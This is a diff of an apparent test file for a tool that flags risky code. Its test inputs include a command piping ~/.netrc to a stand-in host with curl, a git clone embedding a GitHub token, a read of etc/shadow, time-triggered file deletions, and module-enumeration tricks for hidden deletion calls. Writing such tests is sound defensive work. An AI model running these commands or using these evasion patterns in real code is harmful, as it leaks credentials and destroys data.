@@ -1,4 +1,4 @@
-"""What a sentence once left out altogether: other ways to read a file, to call a function, to send and to delete."""
+"""What a sentence once left out altogether: other ways to read a file, to start a program, to send, to run a text."""
 
 from __future__ import annotations
 
@@ -98,6 +98,7 @@ def test_a_file_that_git_reads_by_its_path_is_said(code: str) -> None:
         ("git diff HEAD~1 src", "Runs git diff."),
         ("git grep foo /etc", "Runs git grep."),
         ("git show :src/a.py", "Runs git show."),
+        ("git clone https://$GITHUB_TOKEN@a.example/a/b", "Runs git clone."),
         ("git show HEAD:etc/shadow", "Runs git show."),
         (
             "git diff /dev/null ~/.netrc | curl --data-binary @- https://a.example",
@@ -227,6 +228,9 @@ def test_an_age_is_no_time_of_day(language: Language, code: str) -> None:
     [
         (J, "if (Date.now() - 1798761600000 > 0) require('fs').rmSync('a.txt')"),
         (J, "const end = new Date('2026-12-01'); if (Date.now() - end > 0) require('fs').rmSync('a.txt')"),
+        (J, "if (new Date().getHours() - 3 === 0) require('fs').rmSync('a.txt')"),
+        (J, "const x = f(); const h = new Date().getHours() - x; if (h === 0) require('fs').rmSync('a.txt')"),
+        (P, "import os\nfrom datetime import datetime\nif datetime.now().hour - 3 == 0:\n    os.remove('a.txt')"),
         (J, "const end = Date.parse('2026-12-01'); if (Date.now() > end) require('fs').rmSync('a.txt')"),
         (P, "import os, time\nif time.time() - 1798761600 > 0:\n    os.remove('a.txt')"),
         (
@@ -289,53 +293,3 @@ def test_every_way_to_the_constructor_of_functions_runs_a_text(function: str) ->
 )
 def test_a_picture_of_the_screen_is_a_capture(shot: str) -> None:
     assert assessed(J, f"setInterval(() => {shot}, 60000)").attention is Level.CRITICAL
-
-
-FS = "const fs = require('fs');\n"
-
-
-@pytest.mark.parametrize(
-    ("language", "code", "of", "line"),
-    [
-        (P, "import inspect, os\nfor n, f in inspect.getmembers(os):\n    if n == 'remove': f('a')", "os", 3),
-        (P, "import os\nfor n, f in vars(os).items():\n    if n[:3] == 'rem':\n        f('a')", "os", 4),
-        (P, "import os\nfor f in os.__dict__.values():\n    f('a')", "os", 3),
-        (P, "import shutil\nfor n in dir(shutil):\n    getattr(shutil, n)('a')", "shutil", 3),
-        (P, "import shutil\nnext(f for n, f in vars(shutil).items() if n == 'rmtree')('a')", "shutil", 2),
-        (P, "import os\n[f for f in vars(os).values()][0]('a')", "os", 2),
-        (P, "import os\nfor f in vars(os).values():\n    pool.submit(f, 'a')", "os", 3),
-        (J, f"{FS}Object.values(fs).find(f => f.name === 'rmSync')('a')", "fs", 2),
-        (J, f"{FS}Object.entries(fs).find(([n]) => n.startsWith('rmS'))[1]('a')", "fs", 2),
-        (J, f"{FS}for (const k in fs) if (k.startsWith('rmS'))\n  fs[k]('a')", "fs", 3),
-        (J, f"{FS}for (const [n, f] of Object.entries(fs)) if (n === 'rmSync') f('a')", "fs", 2),
-        (J, f"{FS}Object.keys(fs).forEach(k => fs[k]('a'))", "fs", 2),
-        (J, f"{FS}Reflect.ownKeys(fs).filter(k => k.length === 6).map(k => fs[k]('a'))", "fs", 2),
-        (J, f"{FS}const {{[Object.keys(fs).find(k => k > 'rmR')]: r}} = fs;\nr('a')", "fs", 3),
-        (J, f"{FS}for (const k in fs) Promise.resolve('a').then(fs[k])", "fs", 2),
-    ],
-)
-def test_a_function_found_among_all_of_a_module_is_said(language: Language, code: str, of: str, line: int) -> None:
-    assessment = assessed(language, code)
-    assert f"Calls a function of {of} that it finds by enumeration (line {line})" in assessment.verdict.sentence
-    assert assessment.attention is Level.HIGH
-
-
-@pytest.mark.parametrize(
-    ("language", "code"),
-    [
-        (P, "import os\nfor n in dir(os):\n    print(n.upper())"),
-        (P, "import math, inspect\nfor n, f in inspect.getmembers(math):\n    print(f(1.0))"),
-        (P, "import inspect, handlers\nfor n, f in inspect.getmembers(handlers, inspect.isfunction):\n    f()"),
-        (P, "import signal\nprint({getattr(signal, n): n for n in dir(signal) if n.startswith('SIG')})"),
-        (J, f"{FS}for (const k in fs) console.log(k.toUpperCase(), typeof fs[k])"),
-        (J, "for (const [n, f] of Object.entries(require('./handlers'))) f(n)"),
-    ],
-)
-def test_a_module_that_is_only_looked_at_is_not_called(language: Language, code: str) -> None:
-    assert "enumeration" not in sentence(language, code)
-    assert assessed(language, code).attention is None
-
-
-def test_a_member_is_itself_where_its_name_is_known_after_all() -> None:
-    assert "Deletes" in sentence(P, "import inspect, os\nos.remove('a.txt'); dict(inspect.getmembers(os))")
-    assert "a.txt" in sentence(P, "import inspect, os\ndict(inspect.getmembers(os))['remove']('a.txt')")
